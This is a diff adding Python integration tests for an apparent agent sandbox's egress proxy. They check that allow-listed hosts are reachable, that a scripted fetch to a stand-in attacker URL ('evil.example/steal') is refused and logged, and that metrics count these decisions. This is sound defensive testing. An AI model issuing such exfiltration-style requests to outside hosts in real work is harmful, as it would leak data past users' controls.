@@ -1,0 +1,72 @@
+"""A run whose network allows a host, end to end: its tools reach that host through the
+worker's egress proxy, and a refused destination is in the step's transcript entry."""
+
+from __future__ import annotations
+
+import uuid
+from pathlib import Path
+from typing import Any
+
+from temporalio.client import Client
+from tether import client as tether
+
+from tests.egress.servers import http_server
+from tests.helpers import free_port
+from tests.scripts import scripted_run, turn
+from tests.test_metrics import scrape, value
+from tests.workflows.worker_process import WorkerProcess
+
+FETCH = """
+import urllib.error, urllib.request
+try:
+    print(urllib.request.urlopen("{url}", timeout=20).read().decode())
+except urllib.error.HTTPError as error:
+    print(error.code, error.read().decode())
+"""
+
+
+async def test_a_run_reaches_its_allowed_host_and_its_transcript_says_what_was_denied(
+    temporal_client: Client, worker: str
+) -> None:
+    # 127.0.0.2: the host's loopback, which the sandbox's NO_PROXY (its own loopback) leaves alone.
+    with http_server(host="127.0.0.2") as port:
+        handle = await tether.start_run(temporal_client, scripted_run(
+            "fetch", turn(python=FETCH.format(url=f"http://127.0.0.2:{port}/hello")),
+            turn(python=FETCH.format(url="http://evil.example/steal")), turn("done"),
+            sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}}), task_queue=worker)
+        result = await handle.result()
+    assert result.status == "completed", result
+    first, second, _ = await tether.get_transcript(temporal_client, handle.id)
+    assert first.tool_results[0].stdout == f"hello from {port}, host 127.0.0.2:{port}\n"
+    assert first.note is None
+    assert second.tool_results[0].stdout.startswith("403 tether egress: evil.example:80 refused")
+    assert second.tool_results[0].egress_denied == ["evil.example:80"]
+    assert "[tether: egress denied evil.example:80]" in second.tool_results[0].stderr
+    assert second.note == "python: egress denied evil.example:80"
+
+
+async def test_a_worker_counts_its_egress_decisions_and_bytes_for_prometheus(
+    temporal_client: Client, docker_engine: Any, tmp_path: Path
+) -> None:
+    queue = f"egress-{uuid.uuid4().hex[:6]}"
+    bind = f"127.0.0.1:{free_port()}"
+    worker = WorkerProcess(temporal_client, task_queue=queue, worker_id=queue,
+                           log_file=tmp_path / "worker.log",
+                           env={"TETHER_METRICS_BIND": bind, "TETHER_TRACE_FILE": "off"})
+    await worker.start()
+    try:
+        with http_server(host="127.0.0.2") as port:
+            result = await tether.run(temporal_client, scripted_run(
+                "fetch", turn(python=[FETCH.format(url=f"http://127.0.0.2:{port}/hello"),
+                                      FETCH.format(url="http://evil.example/steal")]), turn("done"),
+                sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}}), task_queue=queue)
+            assert result.status == "completed", result
+        samples = scrape(bind)
+        assert value(samples, "tether_egress_requests_total", decision="allowed") == 1
+        assert value(samples, "tether_egress_requests_total", decision="denied") == 1
+        assert value(samples, "tether_egress_bytes_total", direction="received") == len(
+            f"hello from {port}, host 127.0.0.2:{port}")
+        log = (tmp_path / "worker.log").read_text()
+        assert "egress denied evil.example:80" in log and f"egress allowed 127.0.0.2:{port}" in log
+    finally:
+        await worker.stop()
